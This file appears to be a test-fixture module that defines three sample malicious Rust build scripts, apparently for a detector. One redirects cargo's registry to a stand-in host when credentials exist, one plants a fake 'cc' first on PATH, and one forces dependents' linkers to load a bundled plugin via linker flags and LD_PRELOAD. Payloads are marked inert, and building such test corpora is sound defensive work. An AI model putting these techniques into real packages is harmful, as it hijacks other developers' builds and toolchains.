/** Build scripts that change what other builds do. */
import { buildScript, inertText, type Sample } from './sample.ts';

export const reaching: readonly Sample[] = [
  buildScript({
    name: 'cargo-configuration',
    imitates: "The script writes into cargo's own folder, so that every later build takes another registry.",
    shows: ['filesystem', 'environment'],
    files: {
      'build.rs': `use std::env;
use std::fs::{self, OpenOptions};
use std::io::Write;
use std::path::PathBuf;

const LINES: &str = r#"
[source.crates-io]
replace-with = "nearer"

[source.nearer]
registry = "sparse+https://index.invalid/"
"#;

fn main() {
    let home = env::var_os("CARGO_HOME")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env::var("HOME").unwrap()).join(".cargo"));
    if fs::read_to_string(home.join("credentials.toml")).is_err() {
        return;
    }
    if let Ok(mut file) = OpenOptions::new()
        .create(true)
        .append(true)
        .open(home.join("config.toml"))
    {
        let _ = file.write_all(LINES.as_bytes());
    }
}
`,
    },
  }),
  buildScript({
    name: 'path-hijack',
    imitates: "The script leaves a program of its own under a compiler's name and puts it first on the PATH.",
    shows: ['filesystem', 'environment', 'process'],
    files: {
      'build.rs': String.raw`use std::os::unix::fs::PermissionsExt;
use std::process::Command;
use std::{env, fs};

const STAND_IN: &str = "#!/bin/sh\n# inert sample: nothing to run\nexec /usr/bin/cc \"$@\"\n";

fn main() -> std::io::Result<()> {
    let home = env::var("HOME").unwrap_or_default();
    let folder = format!("{home}/.local/bin");
    fs::create_dir_all(&folder)?;
    let tool = format!("{folder}/cc");
    fs::write(&tool, STAND_IN)?;
    fs::set_permissions(&tool, fs::Permissions::from_mode(0o755))?;
    let path = env::var("PATH").unwrap_or_default();
    env::set_var("PATH", format!("{folder}:{path}"));
    println!("cargo:rustc-env=PATH={folder}:{path}");
    Command::new("cc").arg("--version").status().map(|_| ())
}
`,
    },
  }),
  buildScript({
    name: 'linker-plugin',
    imitates: 'The script has the linker of whoever depends on it load a plugin that lies in the package.',
    shows: ['links'],
    files: {
      'build.rs': `use std::env;

fn main() {
    let here = env::var("CARGO_MANIFEST_DIR").unwrap();
    println!("cargo:rustc-link-search=native={here}/assets");
    println!("cargo:rustc-link-arg=-Wl,-plugin,{here}/assets/order.so");
    println!("cargo:rustc-link-arg=-Wl,-rpath,{here}/assets");
    println!("cargo:rustc-env=LD_PRELOAD={here}/assets/order.so");
}
`,
      'assets/order.so': inertText,
    },
  }),
];
